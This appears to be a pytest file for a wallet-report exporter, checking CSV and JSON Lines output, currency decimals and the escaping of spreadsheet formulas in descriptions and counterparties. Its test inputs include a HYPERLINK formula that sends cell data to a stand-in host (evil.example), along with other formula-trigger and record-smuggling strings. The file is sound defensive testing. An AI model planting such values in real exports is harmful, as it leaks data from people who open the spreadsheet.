"""What a report looks like as CSV and as JSON Lines, and that no spreadsheet takes anybody's words for a formula."""

import csv
import io
import json
from typing import Any

import pytest
from google.protobuf.timestamp_pb2 import Timestamp
from specie.transaction.v1 import (
    Entry,
    ReportClosing,
    ReportEntriesRequest,
    ReportEntriesResponse,
    ReportOpening,
    TransactionKind,
)
from specie.type.v1 import Money

from specie_cli.reports.records import FIELDS, Format, harmless, lines_of

NOON = Timestamp(seconds=1_795_003_200)
LATER = Timestamp(seconds=1_795_003_200, nanos=500_000)
PLAIN = "-12345"


def money(minor_units: int, currency: str = "USD") -> Money:
    return Money(currency_code=currency, minor_units=minor_units)


def entry(amount: int, currency: str = "USD", **more: Any) -> Entry:  # noqa: ANN401 - any field
    what: dict[str, Any] = {
        "wallet": "wallets/alice",
        "sequence": 1,
        "transaction": "t/1",
        "kind": TransactionKind.TRANSACTION_KIND_TRANSFER,
        "counterparty": "wallets/bob",
        "amount": money(amount, currency),
        "balance": money(amount, currency),
        "post_time": NOON,
    }
    return Entry(**(what | more))


def written(form: Format, *entries: Entry, currency: str = "USD", **request: Any) -> str:  # noqa: ANN401 - any field
    total = sum(each.amount.minor_units for each in entries)
    opening = ReportOpening(balance=money(0, currency), entry_count=len(entries), end_time=LATER)
    closing = ReportClosing(balance=money(total, currency), sequence=len(entries), entry_count=len(entries))
    messages = [
        ReportEntriesResponse(opening=opening),
        *[ReportEntriesResponse(entries=[each]) for each in entries],
        ReportEntriesResponse(closing=closing),
    ]
    return "".join(lines_of(form, ReportEntriesRequest(wallet="wallets/alice", **request), messages))


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_a_header_the_opening_the_entries_and_the_closing() -> None:
    text = written(Format.CSV, entry(-12_345), start_time=NOON)
    assert text.split("\r\n") == [
        ",".join(FIELDS),
        "opening,wallets/alice,0,2026-11-18T12:00:00.000000Z,,,,,0.00,USD,,0,",
        "entry,wallets/alice,1,2026-11-18T12:00:00.000000Z,TRANSFER,wallets/bob,,-123.45,-123.45,USD,-12345,-12345,t/1",
        "closing,wallets/alice,1,2026-11-18T12:00:00.000500Z,,,,,-123.45,USD,,-12345,",
        "",
    ]


def test_json_lines_have_the_same_fields_and_numbers_that_are_exact() -> None:
    opening, one, closing = map(json.loads, written(Format.JSONL, entry(2**63 - 1)).splitlines())
    assert opening == {
        "record": "opening",
        "wallet": "wallets/alice",
        "sequence": 0,
        "balance": "0.00",
        "currency": "USD",
        "balance_minor_units": 0,
    }
    assert set(one) == set(FIELDS)
    assert (one["amount_minor_units"], one["amount"]) == (2**63 - 1, "92233720368547758.07")
    assert (closing["record"], closing["time"]) == ("closing", "2026-11-18T12:00:00.000500Z")


@pytest.mark.parametrize(
    ("currency", "shown"), [("USD", "-123.45"), ("JPY", "-12345"), ("KWD", "-12.345"), ("XAU", "-12345"), ("ZZZ", "")]
)
def test_amounts_have_the_decimals_of_their_currency_and_the_minor_units_beside_them(currency: str, shown: str) -> None:
    _, one, closing = rows(written(Format.CSV, entry(-12_345, currency), currency=currency))
    assert (one["amount"], one["amount_minor_units"], one["currency"]) == (shown, PLAIN, currency)
    assert (closing["balance"], closing["balance_minor_units"], closing["amount"]) == (shown, PLAIN, "")


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "=1+1\r\nopening,,,",
        '","=1+1',
    ],
)
@pytest.mark.parametrize("field", ["description", "counterparty"])
def test_nobodys_words_are_a_formula(field: str, words: str) -> None:
    text = written(Format.CSV, entry(-5, **{field: words}))
    _, one, closing = rows(text)
    shown = one[field]
    assert shown == (words if words.startswith('"') else "'" + words)
    assert not shown.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
    # The amounts before and behind are numbers still, and the line is one record.
    assert (one["amount"], one["amount_minor_units"], closing["record"]) == ("-0.05", "-5", "closing")
    _, as_json, _ = map(json.loads, written(Format.JSONL, entry(-5, **{field: words})).splitlines())
    assert as_json[field] == words


@pytest.mark.parametrize("words", ["", "rent", "a=b", "5 - 3", "'quoted'", "gr\u00fc\u00dfe, \u4f60\u597d", 'a "b", c'])
def test_other_words_stay_as_they_are(words: str) -> None:
    assert harmless(words) == words
    _, one, _ = rows(written(Format.CSV, entry(1, description=words)))
    assert one["description"] == words
